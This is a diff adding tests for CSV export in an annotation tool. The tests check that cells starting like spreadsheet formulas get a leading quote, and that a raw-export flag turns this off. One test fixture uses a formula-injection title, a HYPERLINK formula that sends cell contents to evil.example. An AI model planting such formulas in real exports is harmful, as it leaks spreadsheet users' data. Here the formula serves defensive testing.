@@ -173,6 +173,73 @@ def test_csv_has_readwise_columns_and_reads_back(store: AnnotationStore) -> None
     assert gone["URL"] == ""
 
 
+FORMULAS = ["=1+1", "+44 20 7946 0000", "-- a dash", "@handle", "\tTabbed", "\rReturn"]
+"""Passages a spreadsheet would read as formulas, one for each formula start."""
+
+
+def formula_library(store: AnnotationStore) -> None:
+    """An article whose title, author, passages and notes each start like a formula."""
+    blocks = tuple(Block(BlockKind.PARAGRAPH, f"{text} and more.") for text in FORMULAS)
+    document = Document(
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        blocks,
+        source="https://example.org/f",
+        author="@author",
+    )
+    article = store.import_document(document).article
+    for index, text in enumerate(FORMULAS):
+        store.add_highlight(article.id, (index, 0), (index, len(text)), note=f"-note {index}")
+
+
+def test_csv_cells_a_spreadsheet_would_run_get_a_quote_first(store: AnnotationStore) -> None:
+    """= + - @ tab CR at the start of any cell gets a ' in front; the columns stay Readwise's."""
+    formula_library(store)
+
+    text = interchange.export_csv(store, store.list_articles())
+
+    reader = csv.DictReader(io.StringIO(text, newline=""))
+    assert reader.fieldnames == list(interchange.CSV_COLUMNS)
+    rows = list(reader)
+    assert [row["Highlight"] for row in rows] == [f"'{formula}" for formula in FORMULAS]
+    assert {row["Title"] for row in rows} == {'\'=HYPERLINK("http://evil.example/?"&A1,"Click")'}
+    assert {row["Author"] for row in rows} == {"'@author"}
+    assert [row["Note"] for row in rows] == [f"'-note {index}" for index in range(6)]
+    assert [row["Location"] for row in rows] == [str(number) for number in range(1, 7)]
+    assert {row["URL"] for row in rows} == {"https://example.org/f"}
+    assert not [cell for row in rows for cell in row.values() if cell[:1] in "=+-@\t\r"]
+
+
+def test_csv_raw_keeps_every_cell_as_stored(store: AnnotationStore) -> None:
+    """`neutralise=False` (`--raw-csv`) writes the passages exactly, for a Readwise upload."""
+    formula_library(store)
+
+    text = interchange.export_csv(store, store.list_articles(), neutralise=False)
+
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert [row["Highlight"] for row in rows] == FORMULAS
+    assert {row["Author"] for row in rows} == {"@author"}
+
+
+@pytest.mark.parametrize(
+    ("cell", "shown"),
+    [
+        ("=SUM(A1)", "'=SUM(A1)"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@x", "'@x"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        (" =x", " =x"),
+        ("a=b", "a=b"),
+        ("'quoted", "'quoted"),
+        ("", ""),
+    ],
+)
+def test_neutralise_cell(cell: str, shown: str) -> None:
+    """Only a formula start at the very start of a cell is neutralised."""
+    assert interchange.neutralise_cell(cell) == shown
+
+
 def test_only_web_sources_are_urls() -> None:
     """URL is the source for http(s) only; paths and other schemes give an empty cell."""
     assert interchange.web_url("https://a.org/x") == "https://a.org/x"
@@ -301,6 +368,28 @@ def test_cli_exports_to_stdout_and_to_a_file(db: Path, tmp_path: Path, fmt: str)
             data.get("first", {}).pop("id", None)
         assert parsed[0] == parsed[1] == parsed[2]
     assert sorted(p.name for p in target.parent.iterdir()) == [target.name]
+
+
+def test_cli_csv_neutralises_formulas_unless_raw(tmp_path: Path) -> None:
+    """`reader export --format csv` neutralises; `--raw-csv` does not; `--raw-csv` with
+    another format is a usage error."""
+    path = tmp_path / "formulas.db"
+    store = AnnotationStore(path, clock=FixedClock())
+    formula_library(store)
+    store.close()
+
+    safe = run("--db", path, "export", "--format", "csv")
+    raw = run("--db", path, "export", "--format", "csv", "--raw-csv")
+    wrong = run("--db", path, "export", "--format", "json", "--raw-csv")
+
+    assert safe.exit_code == raw.exit_code == 0
+    highlights = [
+        [row["Highlight"] for row in csv.DictReader(io.StringIO(result.stdout, newline=""))]
+        for result in (safe, raw)
+    ]
+    assert highlights == [[f"'{formula}" for formula in FORMULAS], FORMULAS]
+    assert wrong.exit_code == 2
+    assert wrong.stderr == "reader: --raw-csv is for --format csv, not json\n"
 
 
 def test_cli_json_has_all_articles_and_article_limits_it(db: Path) -> None:
